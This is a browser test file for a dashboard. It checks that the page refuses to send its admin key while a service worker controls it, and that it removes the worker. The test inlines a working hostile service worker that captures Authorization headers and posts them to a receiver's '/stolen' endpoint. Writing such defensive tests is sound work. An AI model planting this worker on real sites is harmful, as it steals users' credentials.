/**
 * The dashboard's own guard against a service worker on its origin, in
 * Chromium. The server refuses to serve a worker's script from a function
 * (test/browser/origins.test.ts), so this test plants one the way nothing on
 * the server can: Playwright answers the worker's script itself. The worker
 * sends every Authorization header it sees to a local receiver. Once it
 * controls the dashboard, the page must send no key, say why, and remove the
 * worker, so that a reload is free of it.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { browserSuite, inPage, launchBrowser, type Browser } from '../helpers/browser.js';
import { startReceiver, type Receiver } from '../helpers/receiver.js';
import { startService, type RunningService } from '../helpers/service.js';
import { until } from '../helpers/until.js';

const KEY = 'service-worker-guard-key';

const suite = browserSuite('test/browser/dashboard-service-worker.test.ts');

suite('the dashboard under a service worker, in Chromium', () => {
  let svc: RunningService;
  let receiver: Receiver;
  let browser: Browser;

  beforeAll(async () => {
    receiver = await startReceiver();
    svc = await startService({ env: { SWITCHYARD_ADMIN_KEY: KEY } });
    browser = await launchBrowser();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await svc?.stop();
    await receiver?.close();
  });

  it('sends no key while a service worker controls the page, says so, and removes the worker', async () => {
    const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('authorization');
  if (auth) e.waitUntil(fetch(${JSON.stringify(receiver.url)} + '/stolen', { method: 'POST', mode: 'no-cors', body: auth }));
});`;
    await browser.context.route('**/planted-sw.js', (route) =>
      route.fulfill({ status: 200, contentType: 'text/javascript', headers: { 'service-worker-allowed': '/' }, body: worker }),
    );
    const page = browser.page;
    await page.goto(`${svc.url}/#/functions`);
    await page.getByRole('textbox', { name: 'Admin key' }).fill(KEY);
    await page.getByRole('button', { name: 'Use this key' }).click();
    await page.getByText('No functions yet.').waitFor();

    const planted = await inPage<string>(
      page,
      "navigator.serviceWorker.register('/planted-sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready).then(() => 'registered', (e) => 'failed: ' + e.message)",
    );
    expect(planted).toBe('registered');
    await until(() => inPage<boolean>(page, 'navigator.serviceWorker.controller !== null'), 'the worker to control the page');

    // The next load of the dashboard runs under the worker.
    await page.reload();
    await page.getByRole('heading', { name: 'This page is not safe to use' }).waitFor();
    expect(await inPage(page, 'navigator.serviceWorker.controller !== null')).toBe(true);
    // What it would have sent: nothing, the key stays in the tab's storage.
    expect(await inPage(page, "sessionStorage.getItem('switchyard.adminKey')")).toBe(KEY);
    await until(async () => (await inPage<number>(page, 'navigator.serviceWorker.getRegistrations().then((r) => r.length)')) === 0, 'the worker removed');
    expect(receiver.requests.filter((r) => r.body.includes(KEY))).toEqual([]);

    // Loaded again, the page is the dashboard, free of the worker.
    await page.reload();
    await page.getByText('No functions yet.').waitFor();
    expect(await inPage(page, 'navigator.serviceWorker.controller')).toBeNull();
    expect(receiver.requests.filter((r) => r.body.includes(KEY))).toEqual([]);
  }, 60_000);
});
